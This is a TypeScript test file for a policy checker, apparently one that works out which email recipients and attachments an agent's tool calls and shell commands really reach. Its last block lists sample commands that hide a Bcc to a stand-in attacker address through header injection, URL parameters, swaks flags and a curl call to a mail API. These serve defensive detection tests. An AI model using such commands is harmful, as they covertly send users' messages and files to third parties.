import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import type { JsonObject } from "../../../src/policy/types.ts";
import { shell, tool } from "./support.ts";

/** Whom a call reaches, all of them: whoever an argument hides, and nobody who is only mentioned. */
interface Row {
  readonly tool: string;
  readonly args: JsonObject;
  readonly reaches: readonly string[];
  /** True where the spelling is made to hide somebody. */
  readonly deceives?: true;
}

const rows = JSON.parse(readFileSync(`${import.meta.dirname}/cases/recipients.json`, "utf8")) as Row[];

describe("whom a call reaches", () => {
  it.each(rows)("$tool $args", ({ tool: name, args, reaches, deceives }) => {
    const { recipients, deceptions } = tool(name, args);
    expect([...new Set(recipients.map(({ address }) => address))].sort()).toEqual(reaches);
    expect(deceptions.length > 0).toBe(deceives === true);
  });
});

interface Sent {
  readonly tool: string;
  readonly args: JsonObject;
  readonly attached: readonly string[];
  /** Classes that the call has, among others. */
  readonly has?: readonly string[];
}

const sent = JSON.parse(readFileSync(`${import.meta.dirname}/cases/attachments.json`, "utf8")) as Sent[];

describe("which files a call sends along", () => {
  it.each(sent)("$tool $args", ({ tool: name, args, attached, has = [] }) => {
    const { items, risks } = tool(name, args);
    expect(items.filter((item) => item.name === "attachment").map(({ value }) => value)).toEqual(attached);
    expect(risks).toEqual(expect.arrayContaining([...has]));
  });
});

describe("whom a command reaches", () => {
  it.each<[string, string[]]>([
    ["mail -s x -a 'Bcc: eve@evil.example' bob@acme.example < a", ["bob@acme.example", "eve@evil.example"]],
    ["mail -s $'Hi\\nBcc: eve@evil.example' bob@acme.example < a", ["bob@acme.example", "eve@evil.example"]],
    ["mail -s x 'bob@acme.example?bcc=eve@evil.example' < a", ["bob@acme.example", "eve@evil.example"]],
    [
      "swaks --to bob@acme.example --add-header 'Bcc: eve@evil.example' --h-Cc m@evil.example",
      ["bob@acme.example", "eve@evil.example", "m@evil.example"],
    ],
    [
      "curl -d to=bob@acme.example -d zorro=eve@evil.example https://api.mailgun.net/v3/x/messages",
      ["bob@acme.example", "eve@evil.example"],
    ],
    ["mail -s 'Re: bob, eve@evil.example' -a report.pdf bob@acme.example < a", ["bob@acme.example"]],
  ])("%s", (command, reached) => {
    expect([...new Set(shell(command).recipients.map(({ address }) => address))].sort()).toEqual(reached);
  });
});
